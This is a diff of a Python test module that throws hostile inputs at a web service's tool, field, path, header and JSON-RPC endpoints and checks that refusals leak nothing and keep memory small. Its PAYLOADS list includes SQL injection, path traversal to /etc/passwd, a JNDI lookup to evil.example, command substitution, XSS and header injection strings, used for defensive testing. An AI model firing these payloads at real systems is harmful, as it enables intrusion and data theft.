@@ -1,7 +1,10 @@
-"""Hostile values in every parameter, field, path and header get a plain error or a result."""
+"""Hostile values get a plain error or a result, and a refused request leaves nothing behind."""
 
+import gc
 import json
+import sqlite3
 from collections.abc import Iterator
+from contextlib import closing
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote, urlencode
@@ -11,14 +14,53 @@ import pytest
 
 from mcp_server.tools.registry import TOOLS
 from serving.arguments import get_argument_schemas
+from serving.json_text import MAX_LEVELS, MAX_VALUES, has_json_excess
 from serving.tool_runner import AnyTool
-from tests.security.payloads import HOSTILE, LONE_SURROGATE, PAYLOADS, dump_store
 from tests.security.wire import HOST, LAST, exchange_bytes, parse_statuses
 from tests.support.bad_inputs import PATHS
 from tests.support.running_service import RunningService
 from tests.support.running_service import served as served
+from tests.support.signals_command import find_free_port, start_signals
 
-pytestmark = pytest.mark.clause("endpoint")
+PAYLOADS = [
+    *(
+        "'",
+        '"',
+        "BTC' OR '1'='1",
+        "BTC'; DROP TABLE changes;--",
+        "1 UNION SELECT key_hash FROM keys",
+    ),
+    *("%", "_", "*", "BTC\x00", "%00", "\x00", "../../../../etc/passwd", "..\\..\\boot.ini"),
+    *("file:///etc/passwd", "/etc/passwd%00.json", "{{7*7}}", "${jndi:ldap://evil.example}"),
+    *("$(id)", "`id`", "%s%n%x", "<script>alert(1)</script>", "x" * 5_000, "BTC," * 1_000 + "ETH"),
+    *("\u202eCTB", "B\u200bTC", "\ufeffBTC", "\U0001f600", "\u0130", "\uff11\uff12", "\ue000"),
+    *("BTC\r\nSet-Cookie: a=b", "a\nlevel=info event=forged", "\x1b[31mred", "\u2028", "\x85"),
+    *("NaN", "1e999", "-0", "0x10", "true", "null", "[]", "9" * 5_000, "9999-12-31T23:59:59-23:59"),
+]
+# Only JSON can represent this value.
+LONE_SURROGATE = "\ud800"
+VALUES = [
+    *(0, -1, 2**63, 2**64, 10**300, -1e-300, 1e308, True, False, None, [], {}, ["BTC"], {"a": 1}),
+    [[[[[]]]]],
+]
+HOSTILE = [*PAYLOADS, LONE_SURROGATE, *VALUES]
+
+
+def dump_store(folder: Path, *, without: frozenset[str] = frozenset()) -> list[str]:
+    """Return the schema and all rows of both files of a store, except for some tables."""
+    lines: list[str] = []
+    for name in ("market.db", "market.db-access"):
+        with closing(sqlite3.connect(folder / name)) as db:
+            tables = [row[0] for row in db.execute("SELECT name FROM sqlite_master ORDER BY name")]
+            lines += [repr(row) for row in db.execute("SELECT * FROM sqlite_master ORDER BY name")]
+            for table in tables:
+                is_table = db.execute(
+                    "SELECT 1 FROM sqlite_master WHERE type = 'table' AND name = ?", (table,)
+                )
+                if table not in without and is_table.fetchone():
+                    lines += [repr(row) for row in db.execute(f'SELECT * FROM "{table}"')]
+    return lines
+
 
 ERROR = {"error", "message", "docs"}
 COUNTED = frozenset({"usage"})
@@ -80,6 +122,7 @@ def given_to(tool: AnyTool, values: list[Any]) -> Iterator[dict[str, Any]]:
 
 
 # Except in `make prove`, each value is tried on only one of the tools.
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize("share", [len(TOOLS), pytest.param(1, marks=pytest.mark.prove)])
 @pytest.mark.parametrize("number", range(len(TOOLS)))
 async def test_a_tool_refuses_or_answers_any_hostile_argument(
@@ -96,6 +139,7 @@ async def test_a_tool_refuses_or_answers_any_hostile_argument(
     assert dump_store(tmp_path, without=COUNTED) == before
 
 
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize("share", [len(FIELDS), pytest.param(1, marks=pytest.mark.prove)])
 @pytest.mark.parametrize("number", range(len(FIELDS)))
 async def test_a_field_of_a_purchase_is_refused_or_taken_and_gives_no_key(
@@ -113,6 +157,7 @@ async def test_a_field_of_a_purchase_is_refused_or_taken_and_gives_no_key(
     assert dump_store(tmp_path, without=SALES) == before
 
 
+@pytest.mark.clause("endpoint")
 async def test_no_path_leads_outside_the_served_files(served: RunningService):
     for payload in PAYLOADS:
         for folder in ("/", "/api/v1/", "/web/", "/sandbox/checkout/"):
@@ -122,6 +167,7 @@ async def test_no_path_leads_outside_the_served_files(served: RunningService):
             assert is_plain(answer.json())
 
 
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize(
     "target",
     [
@@ -135,6 +181,7 @@ async def test_a_raw_path_is_not_normalized(served: RunningService, target: byte
     assert parse_statuses(await exchange_bytes(served.base_url, sent)) == [404, 200]
 
 
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize("name", HEADERS)
 @pytest.mark.sampled(3)
 async def test_a_hostile_header_is_refused_or_ignored(served_alone: RunningService, name: str):
@@ -149,6 +196,7 @@ async def test_a_hostile_header_is_refused_or_ignored(served_alone: RunningServi
             assert "Traceback" not in answer.text
 
 
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize(
     "head",
     [
@@ -164,6 +212,7 @@ async def test_a_head_without_end_is_refused_and_closed(served: RunningService, 
     assert (await served.client.get("/api/v1/signals/sample")).status_code == 200
 
 
+@pytest.mark.clause("endpoint")
 async def test_very_many_parameters_are_refused_with_a_short_message(served: RunningService):
     many = "&".join(f"x{number}={number}" for number in range(700))
     sent = ("ticker=" + "A" * 8_000, "=" * 8_000, "x" * 8_000)
@@ -204,6 +253,7 @@ MALFORMED = {
 }
 
 
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize("body", NOT_JSON.values(), ids=NOT_JSON)
 async def test_invalid_json_is_a_parse_error(served: RunningService, body: bytes):
     assert (await served.post_mcp(body)).json()["error"]["code"] == -32700
@@ -213,11 +263,13 @@ async def test_invalid_json_is_a_parse_error(served: RunningService, body: bytes
         assert is_plain(answer.json())
 
 
+@pytest.mark.clause("endpoint")
 @pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED)
 async def test_ambiguous_json_is_refused(served: RunningService, body: bytes):
     assert (await served.post_mcp(body)).json()["error"]["code"] == -32600
 
 
+@pytest.mark.clause("endpoint")
 async def test_hostile_methods_names_and_ids_are_handled_like_any_text(served: RunningService):
     for payload in (*PAYLOADS, LONE_SURROGATE):
         answer = await served.post_mcp({**PING, "id": payload})
@@ -229,3 +281,119 @@ async def test_hostile_methods_names_and_ids_are_handled_like_any_text(served: R
         for error in (unknown["error"], called["error"]):
             assert error["message"].isprintable()
             assert len(error["message"]) < 300
+
+
+MCP = "/api/v1/mcp"
+BODY_BYTES = 58_000
+MANY_NAMES = {f"n{number}": [1] for number in range(950)}
+MAX_RSS_KB = 150_000
+
+
+def make_call(arguments: object) -> dict[str, object]:
+    """Return a call of a tool that needs a key."""
+    params = {"name": "signals_get_state", "arguments": arguments}
+    return {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
+
+
+# The path and body of requests that are refused, at the bounds of what is read and beyond.
+REFUSED: dict[str, tuple[str, bytes]] = {
+    "unknown arguments": (MCP, json.dumps(make_call(MANY_NAMES)).encode()),
+    "a long argument": (MCP, json.dumps(make_call({"ticker": "x" * BODY_BYTES})).encode()),
+    "too many arguments": (MCP, json.dumps(make_call({"a": [{}] * 19_000})).encode()),
+    "an unknown method": (MCP, json.dumps({**make_call({}), "method": "x" * BODY_BYTES}).encode()),
+    "a malformed id": (MCP, json.dumps({**make_call({}), "id": [0] * 1_900}).encode()),
+    "not JSON": (MCP, b'{"a":' + b'"\\"' * 19_000),
+    "many fields of a checkout": (CHECKOUT, json.dumps(MANY_NAMES).encode()),
+    "a long address": (CHECKOUT, json.dumps({"contact_email": "a" * BODY_BYTES}).encode()),
+    "a list in a claim": (CLAIM, json.dumps({"claim_token": [{}] * 19_000}).encode()),
+}
+
+
+@pytest.fixture
+def collector_off() -> Iterator[None]:
+    """Collect what there is, and nothing more until the end of the test."""
+    gc.collect()
+    gc.disable()
+    yield
+    gc.enable()
+
+
+@pytest.mark.clause("endpoint")
+@pytest.mark.usefixtures("collector_off")
+@pytest.mark.parametrize("path_and_body", REFUSED.values(), ids=list(REFUSED))
+async def test_a_refusal_keeps_no_object_of_its_request(
+    served_alone: RunningService, path_and_body: tuple[str, bytes]
+) -> None:
+    path, body = path_and_body
+    headers = {"Content-Type": "application/json"}
+
+    async def count_kept(requests: int) -> int:
+        for _ in range(requests):
+            response = await served_alone.client.post(path, content=body, headers=headers)
+            assert len(response.content) < 4_000
+        # A cycle of an error would keep its frames, and these the arguments.
+        kept = [one for one in gc.get_objects() if isinstance(one, dict | list) and len(one) > 900]
+        return len(kept)
+
+    kept_before = await count_kept(2)
+    assert await count_kept(10) <= kept_before
+
+
+@pytest.mark.clause("endpoint")
+@pytest.mark.parametrize(
+    ("text", "is_refused"),
+    [
+        ("[" + ",".join(["1"] * (MAX_VALUES - 1)) + "]", False),
+        ("[" + ",".join(["1"] * MAX_VALUES) + "]", True),
+        ("[" + ",".join(["{}"] * (MAX_VALUES - 1)) + "]", False),
+        ("[" + ",".join(["{ }"] * MAX_VALUES) + "]", True),
+        ("{" + ",".join(['"a":[]'] * MAX_VALUES) + "}", True),
+        ("[" * MAX_LEVELS + "]" * MAX_LEVELS, False),
+        ("[" * (MAX_LEVELS + 1) + "]" * (MAX_LEVELS + 1), True),
+        ('{"a":' * MAX_LEVELS + "1" + "}" * MAX_LEVELS, False),
+        ('["' + ",[{" * 9_000 + '"]', False),
+        ('["' + '\\",' * 9_000 + '"]', False),
+        ('["' + "\\\\" * 9_000 + '"]', False),
+        ('"' + '\\"' * 9_000 + "\\", False),  # its string never ends
+        ("]" * 9_000, False),  # invalid, so the parser refuses it
+    ],
+)
+def test_values_and_levels_are_counted_outside_of_strings(text: str, is_refused: bool) -> None:
+    assert has_json_excess(text.encode()) is is_refused
+
+
+@pytest.mark.clause("endpoint")
+@pytest.mark.parametrize("path_and_body", REFUSED.values(), ids=list(REFUSED))
+async def test_a_caller_without_a_key_learns_nothing_of_its_arguments(
+    served_alone: RunningService, path_and_body: tuple[str, bytes]
+) -> None:
+    path, body = path_and_body
+    response = await served_alone.client.post(path, content=body)
+    assert b"x" * 101 not in response.content
+    assert b"a" * 101 not in response.content
+
+
+@pytest.mark.clause("endpoint")
+async def test_the_key_is_refused_before_the_arguments_are_read(
+    served_alone: RunningService,
+) -> None:
+    for arguments in (MANY_NAMES, {"ticker": "NOPE"}, {"limit": "x"}):
+        answer = (await served_alone.client.post(MCP, json=make_call(arguments))).json()
+        assert answer["result"]["_meta"]["signals/error"] == "missing_key"
+        refused = await served_alone.client.get("/api/v1/state", params={"colour": "red"})
+        assert (refused.status_code, refused.json()["error"]) == (401, "missing_key")
+
+
+@pytest.mark.clause("endpoint")
+@pytest.mark.parametrize("count", [300, pytest.param(2_000, marks=pytest.mark.prove)])
+def test_refused_bodies_leave_the_memory_of_the_service_small(tmp_path: Path, count: int) -> None:
+    port = find_free_port()
+    with start_signals(tmp_path, "serve", "--no-compute", port=port) as process:
+        process.wait_for_line("Listening on ")
+        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as client:
+            for number in range(count):
+                path, body = list(REFUSED.values())[number % len(REFUSED)]
+                client.post(path, content=body, headers={"Content-Type": "application/json"})
+        status = Path(f"/proc/{process.process.pid}/status").read_text()
+    (rss,) = (line.split()[1] for line in status.splitlines() if line.startswith("VmRSS"))
+    assert int(rss) < MAX_RSS_KB
